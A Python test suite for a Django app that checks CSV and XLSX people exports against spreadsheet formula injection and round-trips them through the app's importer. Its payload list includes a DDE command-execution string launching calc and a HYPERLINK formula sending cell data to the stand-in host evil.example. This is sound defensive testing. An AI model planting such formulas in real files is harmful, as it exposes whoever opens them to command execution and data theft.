"""Promise 17: exports are safe to open. No cell is a formula, and our own import reads back what was exported."""

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.base import ContentFile
from openpyxl import load_workbook

from goldseam.core.people.models import Person
from goldseam.faces.importers import actions as importing
from goldseam.faces.office.people.lists import PeopleList
from goldseam.faces.office.tests.factories import NOON, somebody, today_is
from goldseam.foundation.tables.writing import LIVE, UNWRITABLE, WRITERS, as_typed, safe
from tests.promises.naughty import strings
from tests.promises.sizes import size

pytestmark = pytest.mark.django_db

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [
    *(f"{begin}1+1" for begin in BEGINNINGS),
    *(f"{begin}cmd|' /C calc'!A0" for begin in BEGINNINGS),
    *(f"'{begin}1" for begin in BEGINNINGS),
    *(f"''{begin}1" for begin in BEGINNINGS),
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1)",
    "#REF!",
    "#N/A",
    "'plain",
    "-",
    "+44 20 7946 0000",
]


def written(form: str, rows: list[list[Any]], folder: Path) -> bytes:
    path = folder / f"rows.{form}"
    writer = WRITERS[form](path, title="People")
    for row in rows:
        writer.row(row)
    writer.close()
    return path.read_bytes()


def live_cells(form: str, file: bytes) -> list[str]:
    """The cells that an office program would run."""
    if form == "csv":
        return [
            cell
            for row in csv.reader(io.StringIO(file.decode("utf-8-sig")))
            for cell in row
            if LIVE.match(cell) and cell[0] != "'"
        ]
    sheet = load_workbook(io.BytesIO(file)).worksheets[0]
    return [
        str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type not in ("s", "n", "inlineStr")
    ]


@pytest.mark.parametrize("form", WRITERS)
def test_no_cell_of_any_file_is_a_formula(form: str, tmp_path: Path) -> None:
    texts = [*PAYLOADS, *strings(500)]

    file = written(form, [[text, text] for text in texts], tmp_path)

    assert live_cells(form, file) == []
    if form == "xlsx":
        assert b"<f" not in zipfile.ZipFile(io.BytesIO(file)).read("xl/worksheets/sheet1.xml")


def test_a_file_written_without_care_would_be_found(tmp_path: Path) -> None:
    """The control of the test above."""
    from openpyxl import Workbook

    plain = io.StringIO()
    csv.writer(plain).writerows([text] for text in PAYLOADS)
    book, file = Workbook(), io.BytesIO()
    for text in PAYLOADS:
        book.active.append([text])
    book.save(file)

    assert len(live_cells("csv", plain.getvalue().encode())) >= 2 * len(BEGINNINGS)
    assert '=HYPERLINK("https://evil.example/?"&A1)' in live_cells("xlsx", file.getvalue())


def test_what_is_made_safe_reads_back_as_it_was_typed() -> None:
    texts = [*PAYLOADS, *strings(500)]

    assert [text for text in texts if as_typed(safe(text)) != text] == []
    assert [text for text in texts if safe(text)[:1] in BEGINNINGS] == []


@pytest.mark.parametrize("form", WRITERS)
def test_our_own_import_reads_people_back_as_they_were(
    form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    today_is(monkeypatch, NOON)
    names = [text.strip()[:80] for text in (*PAYLOADS, *strings(size(60, 500)))]
    names = [name for name in names if _is_a_name(name)]
    assert len(names) > 60
    for number, name in enumerate(names):
        somebody(name, f"Row{number}", email=f"row{number}@x.example", profession=name, employer=name)
    columns = [column for column in PeopleList.columns if column.key in ROUND]
    exported = Person.objects.order_by("pk")
    for person in exported:
        person.readable_email = person.email
    rows = [[column.exported(person) for column in columns] for person in exported]
    file = written(form, [[str(column.label) for column in columns], *rows], tmp_path)

    upload = importing.receive(filename=f"people.{form}", content=ContentFile(file), day_order="", by=None, at=NOON)
    importing.read(subject=f"importers.import:{upload.pk}", at=NOON, tell=lambda done, total: None)

    read = list(upload.rows.order_by("number").values_list("told", "faults"))
    told = [(row.get("given_name"), row.get("family_name"), row.get("profession")) for row, _faults in read]
    assert [faults for _row, faults in read if faults] == []
    assert told == [(person.given_name, person.family_name, person.profession) for person in exported]


ROUND = ("given-name", "family-name", "e-mail-address", "profession", "employer")


def _is_a_name(text: str) -> bool:
    """What the import takes for a name at all: one line of writing, without what no file can hold."""
    is_writing = text.isprintable() and not UNWRITABLE.search(text)
    return bool(text) and is_writing and text == " ".join(text.split()) and "\ufffd" not in text
